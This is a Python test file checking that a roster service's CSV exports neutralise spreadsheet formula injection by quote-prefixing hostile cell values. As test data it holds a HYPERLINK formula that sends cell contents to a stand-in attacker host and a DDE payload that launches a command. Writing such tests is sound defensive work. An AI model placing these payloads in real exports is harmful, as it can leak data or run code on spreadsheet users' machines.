"""Every CSV the service writes goes through app/csv_writer.py: a hostile value from a roster (a name
`=HYPERLINK(...)`, a practice `@SUM(...)`, a member id starting with `-`) comes out quote-prefixed in the
ENS roster, the status file, the change report and the CLI diff; numbers and dates stay as they are."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from sqlalchemy.ext.asyncio import AsyncEngine

from app.csv_writer import cell, csv_text
from app.ingest.roster_files import change_report_lines, export_lines
from app.ingest.roster_import import ImportRequest
from app.roster.exports import csv_lines
from tests.roster_builder import csv_text as roster_csv
from tests.roster_builder import make_importer, member

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
AS_OF = date(2026, 11, 2)


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_shared_writer_neutralises_every_formula_start_and_keeps_numbers() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\n", "\0"):
        assert cell(start + "1+1") == "'" + start + "1+1"
    assert (cell(-5), cell(2.5), cell(date(2026, 1, 2)), cell(None), cell("plain")) == (
        "-5",
        "2.5",
        "2026-01-02",
        "",
        "plain",
    )
    assert parsed(csv_text(("a",), [["'already"], ["x=1"]])) == [["a"], ["'already"], ["x=1"]]


async def test_roster_csv_outputs_neutralise_hostile_values(db: AsyncEngine, tmp_path: Path) -> None:
    importer = make_importer(db, tmp_path)
    day1 = tmp_path / "day1.csv"
    day1.write_text(roster_csv([member(1, member_id="-123", family=HOSTILE, given="+SUM(1)", practice="@SUM(1)")]))
    first = await importer.run(ImportRequest(path=day1, filename=day1.name, as_of=AS_OF))
    assert first.status == "completed" and first.added == 1

    ens = parsed("".join([line async for line in export_lines(importer.sessions, "ens", None, AS_OF)]))
    row = dict(zip(ens[0], ens[1], strict=True))
    assert (row["member_id"], row["family"], row["given"], row["practice"]) == (
        "'-123",
        "'" + HOSTILE,
        "'+SUM(1)",
        "'@SUM(1)",
    )
    assert row["birth_date"] == "1970-04-12"  # dates untouched

    status = parsed("".join([line async for line in export_lines(importer.sessions, "status", None, AS_OF)]))
    srow = dict(zip(status[0], status[1], strict=True))
    assert srow["member_id"] == "'-123" and srow["open_tasks"] == "1"

    report = parsed("".join([line async for line in change_report_lines(importer.sessions, first.import_id, "csv")]))
    crow = dict(zip(report[0], report[1], strict=True))
    assert (crow["kind"], crow["member_id"], crow["practice"]) == ("add", "'-123", "'@SUM(1)")

    # The CLI diff prints its changes with the same writer.
    diff = parsed("".join(csv_lines(("kind", "member_id"), [("add", "=cmd|' /C calc'!A0")])))
    assert diff[1] == ["add", "'=cmd|' /C calc'!A0"]
